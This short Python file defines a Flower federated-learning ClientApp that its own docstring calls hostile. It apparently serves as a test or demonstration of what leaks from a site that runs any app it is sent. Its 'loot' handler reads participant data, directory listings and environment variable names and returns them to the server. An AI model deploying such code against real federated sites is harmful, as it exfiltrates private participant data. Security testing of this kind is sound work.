"""The hostile ClientApp: what would leave a site that runs any app it is sent."""

from __future__ import annotations

import os
from pathlib import Path

from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()


@app.query()
def loot(msg: Message, context: Context) -> Message:
    site = Path(str(context.node_config.get("data-path", ".")))
    name = str(context.node_config.get("site-name", "unnamed"))
    marker = Path(str(context.run_config["marker-dir"])) / f"ran-at-{name}"
    marker.write_text("the hostile ClientApp ran here\n")
    participants = site / "participants.tsv"
    found = {"participants": participants.read_text()[:400] if participants.is_file() else "",
             "files": ",".join(sorted(os.listdir(site)))[:400],
             "environment": ",".join(sorted(os.environ))[:400]}
    return Message(RecordDict({"loot": ConfigRecord(found)}), reply_to=msg)
